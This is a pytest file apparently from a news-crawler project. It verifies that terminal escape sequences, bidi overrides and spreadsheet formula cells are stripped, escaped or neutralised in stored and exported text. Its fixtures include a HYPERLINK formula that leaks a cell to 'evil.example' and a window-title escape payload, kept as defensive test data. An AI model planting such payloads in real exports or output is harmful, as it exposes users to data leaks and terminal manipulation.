"""Stored text is inert: control characters and bidi overrides that a page or an imported record carries are not
stored, never reach a terminal raw, and no CSV cell starts a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest

from conftest import NEWSCRAWL, ROOT, CrawlEnv, run
from crawler.demo.replay import ReplayServer, local_source
from crawler.web.formats import neutralise_cell, restore_cell
from crawler.web.terminal import printable
from pipelines.normalise import NormalisePipeline, clean_text, clean_url
from pipelines.validate import Rejected, ValidatePipeline

HOSTILE_SITE = ROOT / "tests" / "fixtures" / "hostile" / "inert"
HOSTILE_SOURCE = """name = "Hostile"
homepage = "https://www.hostile.example/"
allowed_domains = ["hostile.example"]
feeds = ["https://www.hostile.example/rss.xml"]
article_url = '/story/'
language = "en"
"""
# what must never be stored nor printed raw: C0 and C1 controls but newline and tab, bidi embeddings, overrides
# and isolates
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
HOSTILE = "\x1b]0;pwned\x07"  # sets the terminal's window title, then rings the bell
WORDS = "the harbour authority said on friday that the new quay would open to cargo ships next spring after delays"


def stored_text(db: Path) -> list[tuple[str, str, str]]:
    """(table, column, text) of every text value in articles, images and pages, JSON columns decoded."""
    found = []
    with closing(sqlite3.connect(db)) as conn:
        for table in ("articles", "images", "pages"):
            cursor = conn.execute(f"SELECT * FROM {table}")
            names = [d[0] for d in cursor.description]
            for row in cursor:
                for name, value in zip(names, row, strict=True):
                    if isinstance(value, str):
                        found += [(table, name, text) for text in _texts(value)]
    return found


def _texts(value: str) -> list[str]:
    """The text, and every string inside it when it is JSON (authors, tags: a JSON escape is no raw character)."""
    try:
        decoded: Any = json.loads(value)
    except ValueError:
        return [value]
    strings = [decoded] if isinstance(decoded, str) else decoded if isinstance(decoded, list) else []
    return [value, *(s for s in strings if isinstance(s, str))]


def unsafe_values(db: Path) -> list[tuple[str, str, str]]:
    return [(table, column, text) for table, column, text in stored_text(db) if UNSAFE.search(text)]


def serve_hostile(env: CrawlEnv) -> ReplayServer:
    server = ReplayServer.for_folder(HOSTILE_SITE).start()
    env.servers["hostile"] = server
    text = local_source(HOSTILE_SOURCE, server.site.origin, server.base_url)
    (env.sources_dir / "hostile.toml").write_text(text, encoding="utf-8")
    return server


def import_records(db: Path, tmp_path: Path, records: list[dict[str, Any]]) -> None:
    path = tmp_path / "records.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    result = run([str(NEWSCRAWL), "import", str(path), "--db", str(db)])
    assert result.returncode == 0 and "Traceback" not in result.stderr, result.stderr[-3000:]


def test_a_crawled_page_full_of_control_characters_is_stored_and_printed_inert(env):
    page = (HOSTILE_SITE / "story" / "harbour-quay-opens.html").read_text(encoding="utf-8")
    assert r"\u001b]0;pwned\u0007" in page and r"\u0000" in page and "&#27;[2J" in page and "&#7;" in page
    assert "&#x202E;" in page
    serve_hostile(env)
    result = env.newscrawl("crawl")
    assert result.returncode == 0, result.stderr[-3000:]

    (article,) = env.rows("SELECT * FROM articles")
    assert article["title"].startswith("Harbour quay opens") and "pwned" in article["title"]  # the text stays
    assert "Jane" in article["authors"] and article["section"] and article["tags"] != "[]"
    assert env.rows("SELECT * FROM images"), "the page's image and its caption are stored"
    assert unsafe_values(env.db) == []
    # as an older version stored it; the kept page, extracted again, goes through the same pipelines
    env.rows("UPDATE articles SET section = ?", f"{article['section']}{HOSTILE}")
    reextracted = env.newscrawl("reextract")
    assert reextracted.returncode == 0 and "1 updated" in reextracted.stderr, reextracted.stderr[-3000:]
    assert env.rows("SELECT section FROM articles") == [{"section": article["section"]}]
    assert unsafe_values(env.db) == []

    for args in (["search", "quay"], ["show", str(article["id"])], ["show", str(article["id"]), "--format", "json"]):
        shown = env.newscrawl(*args)
        assert shown.returncode == 0, shown.stderr
        assert "quay" in shown.stdout and not UNSAFE.search(shown.stdout), (args, shown.stdout)


def test_an_imported_record_with_control_characters_is_stored_clean(tmp_path):
    dirty = {
        "url": "https://news.example/a/1\x1b[2J",
        "title": f"Harbour {HOSTILE}quay\x00 opens\u202e to ships",
        "body": f"{WORDS}\x1b[2J\x07.\n\u2066Second\u2069 line\x9b31m with a\ttab and\x00 a NUL.",
        "caption": f"The quay{HOSTILE}",
        "caption_credit": "Photo\x1b[31m: Port",
        "attribution": "Wire\x07",
        "authors": [f"Jane{HOSTILE} Doe", "\x1b"],
        "tags": ["ports\u202e", "\x07"],
        "section": "Ports\x1b[5m",
        "description": "About\x00 the quay\x85",
        "language": "en\x07",
        "image_url": "https://news.example/i/quay\x1b.jpg",
        "images": [{"url": "https://news.example/i/quay\u202e.jpg", "caption": "Dawn\x07", "credit": "AFP\x1b"}],
        "source": "news\x1b",
        "source_name": f"News{HOSTILE}",
    }
    only_controls = {"url": "https://news.example/a/2", "title": "\x1b\x07\u202e", "body": WORDS}
    db = tmp_path / "news.db"
    import_records(db, tmp_path, [dirty, only_controls])

    assert unsafe_values(db) == []
    with closing(sqlite3.connect(db)) as conn:
        conn.row_factory = sqlite3.Row
        (article,) = conn.execute("SELECT * FROM articles").fetchall()
        (image,) = conn.execute("SELECT * FROM images").fetchall()
        (rejected,) = conn.execute("SELECT status FROM pages WHERE url LIKE '%/a/2'").fetchone()
    assert article["title"] == "Harbour ]0;pwnedquay opens to ships"
    assert article["body"].endswith("delays[2J.\nSecond line31m with a tab and a NUL.")  # newline kept, tab a space
    assert json.loads(article["authors"]) == ["Jane]0;pwned Doe"] and json.loads(article["tags"]) == ["ports"]
    assert (article["source"], article["section"], article["language"]) == ("news", "Ports[5m", "en")
    # a URL keeps what it points to: a control or bidi character in it is percent-encoded, as a browser sends it
    assert article["url"] == "https://news.example/a/1%1B[2J"
    assert article["image_url"] == "https://news.example/i/quay%1B.jpg"
    assert (image["url"], image["caption"], image["credit"]) == (
        "https://news.example/i/quay%E2%80%AE.jpg",
        "Dawn",
        "AFP",
    )
    assert rejected == "no_title"  # a title of nothing but control characters is no title (not a failed batch)


def test_a_long_title_is_capped(tmp_path):
    db = tmp_path / "news.db"
    import_records(db, tmp_path, [{"url": "https://news.example/a/1", "title": "quay " * 400, "body": WORDS}])
    with closing(sqlite3.connect(db)) as conn:
        (title,) = conn.execute("SELECT title FROM articles").fetchone()
    assert len(title) == 500 and title.endswith("quay…")
    capped = NormalisePipeline(max_title_chars=12).process_item(_article(title="Harbour quay opens"))
    assert capped.title == "Harbour qua…"
    assert (
        NormalisePipeline(max_title_chars=0).process_item(_article(title="quay " * 400)).title
        == ("quay " * 400).strip()
    )


def test_text_an_older_version_stored_raw_is_escaped_on_the_terminal(tmp_path):
    db = tmp_path / "news.db"
    import_records(db, tmp_path, [{"url": "https://news.example/a/1", "title": "Harbour quay", "body": WORDS}])
    with closing(sqlite3.connect(db)) as conn, conn:  # as stored before control characters were taken out
        conn.execute(
            "UPDATE articles SET title = ?, body = body || ?, section = ?, source = ?, authors = ?",
            [f"Harbour{HOSTILE} quay\u202e", "\x1b[2J\x9b", "Ports\x07", "news\x1b", json.dumps(["Jane\x1b"])],
        )
        conn.execute("INSERT INTO images (article_id, position, url, caption) VALUES (1, 0, 'x\x1b', 'Dawn\x07')")
    sources = tmp_path / "sources"
    sources.mkdir()
    (sources / "news.toml").write_text(
        HOSTILE_SOURCE.replace('"Hostile"', r'"News\u001b]0;pwned\u0007"'), encoding="utf-8"
    )

    outputs = {}
    for name, args in {
        "search": ["search", "quay"],
        "search csv": ["search", "quay", "--format", "csv"],
        "show": ["show", "1"],
        "sources": ["sources", "--sources-dir", str(sources)],
        "status": ["status", "--sources-dir", str(sources)],
        "export csv": ["export", "--format", "csv"],
    }.items():
        result = run([str(NEWSCRAWL), *args, "--db", str(db)])
        assert result.returncode in (0, 1) and "Traceback" not in result.stderr, (args, result.stderr)
        assert not UNSAFE.search(result.stdout + result.stderr), (args, result.stdout)
        outputs[name] = result.stdout
    assert r"Harbour\x1b]0;pwned\x07 quay\u202e" in outputs["search"]
    assert r"Harbour\x1b]0;pwned\x07 quay\u202e" in outputs["show"] and r"image: x\x1b Dawn\x07" in outputs["show"]
    assert r"News\x1b]0;pwned\x07" in outputs["sources"]
    assert r"Harbour\x1b]0;pwned\x07 quay\u202e" in outputs["search csv"] and "news\\x1b" in outputs["export csv"]

    for args in (["export"], ["search", "quay", "--format", "jsonl"], ["show", "1", "--format", "json"]):
        result = run([str(NEWSCRAWL), *args, "--db", str(db)])
        assert result.returncode == 0 and not UNSAFE.search(result.stdout), (args, result.stdout)
        record = json.loads(result.stdout.splitlines()[0] if args[0] != "show" else result.stdout)
        assert record["title"] == f"Harbour{HOSTILE} quay\u202e"  # JSON escapes: the value itself is unchanged


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the full story")',
    "+1 more ships",
    "-2 degrees at dawn",
    "@SUM(A1:A9)",
    "'=already quoted",
    "'tis the season",
    "Plain headline",
]


def test_csv_export_neutralises_cells_that_a_spreadsheet_would_run(tmp_path):
    db = tmp_path / "news.db"
    records = [
        {"url": f"https://news.example/a/{n}", "title": title, "body": distinct_body(n), "section": "=1+1"}
        for n, title in enumerate(FORMULAS)
    ]
    import_records(db, tmp_path, records)
    result = run([str(NEWSCRAWL), "export", "--format", "csv", "--db", str(db)])
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [row["title"] for row in rows] == [
        "'" + FORMULAS[0],
        "'+1 more ships",
        "'-2 degrees at dawn",
        "'@SUM(A1:A9)",
        "''=already quoted",  # so that taking one quote off gives the stored text back
        "'tis the season",
        "Plain headline",
    ]
    assert {row["section"] for row in rows} == {"'=1+1"}
    assert [restore_cell(row["title"]) for row in rows] == FORMULAS
    assert rows[0]["id"] == "1"  # numbers are not text cells

    searched = run([str(NEWSCRAWL), "search", "dawn", "--format", "csv", "--db", str(db)])
    (row,) = csv.DictReader(io.StringIO(searched.stdout))
    assert row["title"] == "'-2 degrees at dawn"


def distinct_body(n: int) -> str:
    """A body that shares no word 3-gram with another one's (so that no record is stored as a copy)."""
    return " ".join(f"word{n}x{i}" for i in range(30)) + (" dawn" if n == 2 else "")


@pytest.mark.parametrize("cell", [*FORMULAS, "\t=1", "\r=1", "''@x", "", "=", "'", "''"])
def test_a_neutralised_cell_is_restored_exactly(cell):
    assert restore_cell(neutralise_cell(cell)) == cell
    assert not re.match(r"[=+\-@\t\r]", neutralise_cell(cell))


def test_clean_text_and_clean_url_leave_no_control_character():
    assert clean_text("a\x1b[2Jb\x07 c\x00\u202ed\u2066e\u2069\x9b") == "a[2Jb cde"
    assert clean_text("one\x0btwo\x0cthree\x85four", multiline=True) == "one\ntwo\nthree\nfour"  # line breaks
    assert clean_text("الكويت\u200f اليوم\u061c \u200eUN") == "الكويت\u200f اليوم\u061c \u200eUN"  # marks stay
    assert clean_text("\x1b\x07\u202e") is None
    assert clean_url(" https://x.example/a\tb\n/c\x1b\u202e.jpg ") == "https://x.example/ab/c%1B%E2%80%AE.jpg"
    assert printable("a\x1b]0;x\x07\tb\nc\r\u202e\x9b\u200f") == "a\\x1b]0;x\\x07\tb\nc\\x0d\\u202e\\x9b\u200f"


def test_validate_reads_a_title_of_control_characters_as_no_title():
    with pytest.raises(Rejected) as err:
        ValidatePipeline(min_words=1).process_item(_article(title="\x1b\u202e\x07"))
    assert err.value.reason == "no_title"


def _article(title: str) -> Any:
    from crawler.items import Article

    return Article("https://news.example/a/1", title, WORDS)
